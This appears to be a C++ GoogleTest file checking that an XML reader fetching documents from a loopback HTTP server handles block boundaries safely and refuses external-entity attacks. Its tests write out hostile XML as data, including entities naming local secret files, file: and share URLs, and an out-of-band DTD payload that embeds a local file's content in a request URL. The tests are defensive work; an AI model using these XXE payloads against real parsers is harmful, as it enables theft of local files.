// Documents and entities fetched over http from a scripted server on the
// loopback interface: block boundaries of the client's body reads, and what
// a hostile server may make the reader read.

#include <expat.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "qz/qzhttpclient.h"
#include "test_httpclient_server.h"
#include "test_xmlreader_support.h"

using xrtest::Reader;
using xrtest::TempFile;

// The reader reaches the HTTP client only when the program links it (as
// every program that reads http documents does): this test program does.
int16_t (*volatile g_linkClient)(QZ_HTTP_Request *, const char *, const char *, const char *, int32_t,
                                 QZ_List *) = &QZ_HTTP_Request_Open_Url;

namespace {

std::string Answer(const std::string &body) {
    return "HTTP/1.0 200 OK\r\nContent-Type: text/xml\r\n\r\n" + body;
}

std::string UrlOf(const qz_test::ScriptServer &server, const std::string &path) {
    return "http://127.0.0.1:" + std::to_string(server.port()) + path;
}

// A document whose first block (5,119 bytes) ends inside a start tag of
// tokenBytes bytes, with filler text around it up to about size bytes.
std::string DocumentWithTokenAtBlockEnd(size_t tokenBytes, size_t size) {
    const size_t tokenStart = 5119 - tokenBytes;
    std::string doc = "<r>";
    doc += std::string(tokenStart - doc.size(), 't');
    doc += "<a v='" + std::string(tokenBytes + 100, 'v') + "'/>";
    while (doc.size() < size) doc += "<b>some text</b>";
    doc += "</r>";
    return doc;
}

struct Counts {
    int elements = 0;
    size_t valueBytes = 0;
};

Counts ReadAll(QZ_XmlReader *r) {
    Counts c;
    while (QZ_XMLReaderRead(r)) {
        if (QZ_XMLReaderGetNodeType(r) == QZ_XMLNODE_ELEMENT) ++c.elements;
        const char *v = XMLReaderGetAttributeValue(r, 1);
        if (v != nullptr) c.valueBytes += std::strlen(v);
    }
    return c;
}

} // namespace

// The client's block read zero-terminates what it delivers, one byte past the
// bytes asked for; the reader must have room for it wherever it reads to.
TEST(XmlReaderHttp, BlocksOfEverySizeLandInsideTheBuffer) {
    for (size_t tokenBytes : {2047u, 2048u, 2049u, 2050u, 4000u}) {
        for (size_t size : {10u * 1024, 17u * 1024, 64u * 1024}) {
            const std::string doc = DocumentWithTokenAtBlockEnd(tokenBytes, size);
            qz_test::ScriptServer server({Answer(doc)});
            Reader reader;
            ASSERT_TRUE(QZ_XMLReaderOpen(reader.get(), UrlOf(server, "/doc.xml").c_str()));
            const Counts c = ReadAll(reader.get());
            EXPECT_EQ(QZ_XMLReaderErrorCode(reader.get()), 0) << tokenBytes << " " << size;
            EXPECT_EQ(c.valueBytes, tokenBytes + 100) << tokenBytes << " " << size;
            EXPECT_GT(c.elements, 2);
        }
    }
}

namespace {

// A local file that a hostile document tries to read, in a directory of its own.
struct LocalSecret {
    std::string dir;
    std::unique_ptr<TempFile> file;
    LocalSecret() {
        char templ[] = "/tmp/qzxrsecretXXXXXX";
        dir = mkdtemp(templ);
        file = std::make_unique<TempFile>("<i>local secret</i>", dir + "/secret.xml");
    }
    ~LocalSecret() {
        file.reset();
        rmdir(dir.c_str());
    }
    std::string path() const { return dir + "/secret.xml"; }
};

std::string RequestLine(const std::string &request) { return request.substr(0, request.find("\r\n")); }

} // namespace

// A document from the network starts with external entities off: neither
// its DTD nor its entities are fetched.
TEST(XmlReaderHttp, RemoteDocumentsStartWithEntitiesOff) {
    LocalSecret secret;
    const std::string doc = "<!DOCTYPE r SYSTEM 'evil.dtd' [<!ENTITY s SYSTEM '" + secret.path() + "'>]><r>&s;</r>";
    qz_test::ScriptServer server({Answer(doc), Answer("<!ENTITY t 'from the dtd'>")});
    Reader reader;
    ASSERT_TRUE(QZ_XMLReaderOpen(reader.get(), UrlOf(server, "/dir/doc.xml").c_str()));
    EXPECT_EQ(QZ_XMLReaderGetExtEntEnabled(reader.get()), 0);
    EXPECT_EQ(xrtest::Stream(reader.get()), "!:r|E:r=");
    EXPECT_EQ(QZ_XMLReaderErrorCode(reader.get()), 0);
    EXPECT_EQ(server.requests().size(), 1u);

    // A local document keeps the default.
    TempFile local("<r/>");
    Reader file;
    QZ_XMLReaderOpen(file.get(), local.path.c_str());
    EXPECT_EQ(QZ_XMLReaderGetExtEntEnabled(file.get()), 1);
}

// With external entities turned on, what a remote document (or its remote
// DTD) names is fetched from the network, never from a local file: an
// absolute path is asked of the document's server, a relative reference is
// resolved against the http base, and a file: URL or a share is refused.
TEST(XmlReaderHttp, RemoteEntitiesNeverReadLocalFiles) {
    LocalSecret secret;
    struct Case {
        std::string systemId;
        std::string stream;     // what the program reads
        std::string entityLine; // the request line of the entity, "" when none is made
    };
    const std::vector<Case> cases = {
        {secret.path(), "!:r|E:r|E:i=remote|/r", "GET " + secret.path() + " HTTP/1.0"},
        {"secret.xml", "!:r|E:r|E:i=remote|/r", "GET /dtd/secret.xml HTTP/1.0"},
        {"../secret.xml", "!:r|E:r|E:i=remote|/r", "GET /dtd/../secret.xml HTTP/1.0"},
        {"file://" + secret.path(), "", ""},
        {"FILE:" + secret.path(), "", ""},
        {"\\\\server\\share\\secret.xml", "", ""},
        {"//otherhost" + secret.path(), "", ""},
    };
    for (const Case &c : cases) {
        const std::string doc = "<!DOCTYPE r SYSTEM '/dtd/evil.dtd'><r>&s;</r>";
        const std::string dtd = "<!ENTITY s SYSTEM '" + c.systemId + "'>";
        qz_test::ScriptServer server({Answer(doc), Answer(dtd), Answer("<i>remote</i>")});
        Reader reader;
        ASSERT_TRUE(QZ_XMLReaderOpen(reader.get(), UrlOf(server, "/dir/doc.xml").c_str()));
        QZ_XMLReaderSetExtEntEnabled(reader.get(), 1);
        const std::string stream = xrtest::Stream(reader.get());
        EXPECT_EQ(stream, c.stream) << c.systemId;
        EXPECT_EQ(stream.find("local"), std::string::npos) << c.systemId;
        const auto requests = server.requests();
        ASSERT_GE(requests.size(), 2u);
        EXPECT_EQ(RequestLine(requests[1]), "GET /dtd/evil.dtd HTTP/1.0");
        if (c.entityLine.empty()) {
            EXPECT_EQ(requests.size(), 2u) << c.systemId;
            EXPECT_EQ(QZ_XMLReaderErrorCode(reader.get()), XML_ERROR_EXTERNAL_ENTITY_HANDLING) << c.systemId;
        } else {
            ASSERT_EQ(requests.size(), 3u) << c.systemId;
            EXPECT_EQ(RequestLine(requests[2]), c.entityLine);
            EXPECT_EQ(QZ_XMLReaderErrorCode(reader.get()), 0) << c.systemId;
        }
    }
}

// A remote DTD that would send a local file's content back to its server
// (a parameter entity read from a file, put into the URL of another) gets
// no further than the file.
TEST(XmlReaderHttp, RemoteDtdCannotSendLocalFilesAway) {
    LocalSecret secret;
    const std::string doc = "<!DOCTYPE r SYSTEM 'evil.dtd'><r>&send;</r>";
    const std::string dtd = "<!ENTITY % file SYSTEM 'file://" + secret.path() +
                            "'><!ENTITY % wrap \"<!ENTITY send SYSTEM 'http://127.0.0.1:1/?%file;'>\">%wrap;";
    qz_test::ScriptServer server({Answer(doc), Answer(dtd), Answer("<i>sent</i>")});
    Reader reader;
    ASSERT_TRUE(QZ_XMLReaderOpen(reader.get(), UrlOf(server, "/doc.xml").c_str()));
    QZ_XMLReaderSetExtEntEnabled(reader.get(), 1);
    EXPECT_EQ(xrtest::Stream(reader.get()), "");
    EXPECT_EQ(QZ_XMLReaderErrorCode(reader.get()), XML_ERROR_EXTERNAL_ENTITY_HANDLING);
    EXPECT_EQ(server.requests().size(), 2u);

    // A local document that names a remote entity: a reference inside that
    // entity is never read from a local file either, even to an entity that
    // the local document declared.
    qz_test::ScriptServer entityServer({Answer("<o>&inner;</o>")});
    TempFile local("<!DOCTYPE r [<!ENTITY inner SYSTEM '" + secret.path() + "'><!ENTITY e SYSTEM '" +
                   UrlOf(entityServer, "/e.xml") + "'>]><r>&inner;&e;</r>");
    Reader mixed;
    QZ_XMLReaderSetNodeConstr(mixed.get(), QZ_XMLNODE_ELEMENT);
    QZ_XMLReaderSetResConstr(mixed.get(), 0);
    QZ_XMLReaderOpen(mixed.get(), local.path.c_str());
    EXPECT_EQ(xrtest::Stream(mixed.get()), "");
    EXPECT_EQ(QZ_XMLReaderErrorCode(mixed.get()), XML_ERROR_EXTERNAL_ENTITY_HANDLING);
    EXPECT_EQ(entityServer.requests().size(), 1u);
    // The local document's own reference to the file stands.
    Reader trusted;
    TempFile alone("<!DOCTYPE r [<!ENTITY inner SYSTEM '" + secret.path() + "'>]><r>&inner;</r>");
    QZ_XMLReaderOpen(trusted.get(), alone.path.c_str());
    EXPECT_EQ(xrtest::Stream(trusted.get()), "!:r|E:r|E:i=local secret|/r");
}
